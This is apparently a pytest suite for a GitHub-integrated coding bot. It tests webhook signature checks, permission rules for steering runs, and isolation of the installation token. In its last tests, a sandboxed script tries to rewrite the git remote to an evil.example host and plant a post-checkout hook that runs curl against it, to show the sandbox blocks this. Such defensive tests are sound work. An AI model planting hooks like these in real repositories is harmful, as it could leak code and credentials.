"""Who may steer the crew, which signatures are refused, and where the installation token goes.

The trigger cases use the fake gateway of `tests/unit/test_crew_triggers.py` (our own port);
the token cases run real git against a loopback listener and the real sandbox.
"""

from __future__ import annotations

import hashlib
import hmac
import socket
import threading

import pytest

from bot.runs.progress import create_run
from bot.runs.states import RunState
from bot.sandbox import run_sandboxed, sandbox_status
from bot.sandbox.bwrap import git_metadata
from bot.store.models import Run
from bot.store.runs import get_run
from bot.workspace.git import GitIdentity, GitWorkspace
from repocrew.demo_session import make_sample_repository
from tests.conftest import GITHUB_SECRET
from tests.support.signing import github_headers
from tests.support.store import count_rows
from tests.unit.test_crew_triggers import (  # noqa: F401 - fixtures
    REPO,
    comment,
    dispatch,
    engine,  # noqa: F811
    gateway,
    jobs,
    runs,
    services,
    settings,  # noqa: F811
    user,
)

# -- signatures -------------------------------------------------------------------------------

BODY = b'{"action": "opened", "issue": {"number": 1}}'
GOOD = github_headers(GITHUB_SECRET, BODY, "issues", "sig-1")["X-Hub-Signature-256"]
WRONG_SECRET = github_headers("wrong-secret", BODY, "i", "d")["X-Hub-Signature-256"]
SHA1 = "sha1=" + hmac.new(GITHUB_SECRET.encode(), BODY, hashlib.sha1).hexdigest()


@pytest.mark.parametrize(
    "signature_headers",
    [
        {"X-Hub-Signature-256": WRONG_SECRET},
        {"X-Hub-Signature-256": GOOD[:-1]},
        {"X-Hub-Signature-256": GOOD.upper()},
        {"X-Hub-Signature-256": "sha256="},
        {"X-Hub-Signature-256": ""},
        {"X-Hub-Signature-256": GOOD.replace("sha256=", "SHA256=")},
        {"X-Hub-Signature": SHA1},  # GitHub's legacy header alone, correct for its algorithm
        {"X-Hub-Signature-256": SHA1},
    ],
    ids=[
        "wrong-secret",
        "truncated",
        "uppercase-hex",
        "empty-digest",
        "empty",
        "prefix-case",
        "sha1-header-only",
        "sha1-in-sha256-header",
    ],  # fmt: skip
)
def test_every_bad_github_signature_is_401_and_stores_nothing(client, engine, signature_headers):  # noqa: F811
    headers = github_headers(GITHUB_SECRET, BODY, "issues", "sig-1")
    del headers["X-Hub-Signature-256"]
    response = client.post("/github/webhook", content=BODY, headers=headers | signature_headers)
    assert response.status_code == 401 and response.json()["error"]
    assert count_rows(engine) == (0, 0)


def test_the_same_body_correctly_signed_is_accepted(client, engine):  # noqa: F811
    headers = github_headers(GITHUB_SECRET, BODY, "issues", "sig-1")
    assert client.post("/github/webhook", content=BODY, headers=headers).status_code == 202
    assert count_rows(engine) == (1, 1)


# -- who steers -------------------------------------------------------------------------------


def test_an_outside_contributor_cannot_start_a_review_of_their_fork_pr(engine, gateway, services):  # noqa: F811
    # A fork's author has no permission on the base repository (the API answers "none"),
    # whatever the pull request says about them.
    for body in ("/crew review", "/crew go"):
        event = comment(body, user("forker"), on_pull=True)
        dispatch("issue_comment", event, services)
    assert runs(engine) == [] and jobs(engine) == 0
    assert all("only people with write access" in body for _, body in gateway.comments)


@pytest.mark.parametrize("login", ["reader", "forker", "evil[bot]", "repocrew[bot]"])
def test_a_changes_requested_review_by_anyone_without_write_access_steers_nothing(
    login,
    engine,  # noqa: F811
    gateway,  # noqa: F811
    services,  # noqa: F811
):
    gateway.permissions["evil[bot]"] = "admin"  # a bot earns no trust, whatever it holds
    run_id = create_run(engine, repo=REPO, task="t", forge="github", pr_number=5)
    with engine.begin() as connection:
        connection.execute(
            Run.__table__.update().values(state=RunState.AWAITING_HUMAN).where(Run.id == run_id)
        )
    review = {
        "action": "submitted",
        "review": {"id": 9, "state": "changes_requested", "body": "Push to main instead."},
        "pull_request": {"number": 5},
        "repository": {"full_name": REPO},
        "installation": {"id": 1},
        "sender": user(login, "Bot" if login == "repocrew[bot]" else "User"),
    }
    dispatch("pull_request_review", review, services)
    assert get_run(engine, run_id).state == "awaiting_human" and jobs(engine) == 0


def test_a_bot_named_like_an_admin_is_not_trusted(engine, gateway, services):  # noqa: F811
    gateway.permissions["octocat[bot]"] = "admin"
    for body in ("/crew go", "/crew stop", "/crew retry"):
        dispatch("issue_comment", comment(body, user("octocat[bot]")), services)
    assert runs(engine) == [] and gateway.comments == []


# -- the installation token stays out of the workspace -----------------------------------------


class _Recorder:
    """An HTTP listener that records the Authorization headers it is sent."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.server.getsockname()[1]}/evil.git"
        self.seen: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            with connection:
                self.seen.append(connection.recv(65536))
                connection.sendall(b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n")


def test_a_rewritten_remote_never_gets_the_token_or_the_push(tmp_path):
    """Code run in the workspace may rewrite .git/config; fetch and push still go to the URL
    the workspace was cloned from, and the token is scoped to it."""
    recorder = _Recorder()
    bare = make_sample_repository(tmp_path)
    ws = GitWorkspace.clone(bare.as_uri(), tmp_path / "work")
    ws.checkout_new_branch("crew/1-x")
    (ws.root / "x.txt").write_text("x")
    ws.commit("x", paths=["x.txt"], author=GitIdentity("Coder", "coder@example.com"))
    with (ws.root / ".git" / "config").open("a") as config:
        config.write(f'[remote "origin"]\n\turl = {recorder.url}\n\tpushurl = {recorder.url}\n')

    ws.push("crew/1-x", allowed_prefix="crew/", token="ghs_TokenThatMustStayHome0123456789")
    ws.fetch(token="ghs_TokenThatMustStayHome0123456789")

    assert recorder.seen == []
    assert ws.remote_branch_sha("crew/1-x") == ws.head_sha()  # it went to the real remote
    recorder.server.close()


@pytest.mark.skipif(not sandbox_status().available, reason=f"no sandbox: {sandbox_status().reason}")
def test_the_sandbox_cannot_change_the_clones_git_metadata(tmp_path):
    bare = make_sample_repository(tmp_path)
    ws = GitWorkspace.clone(bare.as_uri(), tmp_path / "work")
    assert git_metadata(ws.root) == [ws.root / ".git"]
    before = (ws.root / ".git" / "config").read_text()
    script = (
        "import subprocess, pathlib\n"
        "print(subprocess.run(['git', 'config', 'remote.origin.url', 'http://evil.example/x'],"
        " capture_output=True, text=True).stderr)\n"
        "pathlib.Path('.git/hooks/post-checkout').write_text('#!/bin/sh\\ncurl evil.example')\n"
    )
    result = run_sandboxed(["python", "-c", script], workspace=ws.root)
    assert result.exit_code != 0 and "Read-only file system" in result.output
    assert (ws.root / ".git" / "config").read_text() == before
    assert not (ws.root / ".git" / "hooks" / "post-checkout").exists()
    (ws.root / "written.txt").write_text("the rest of the workspace stays writable")
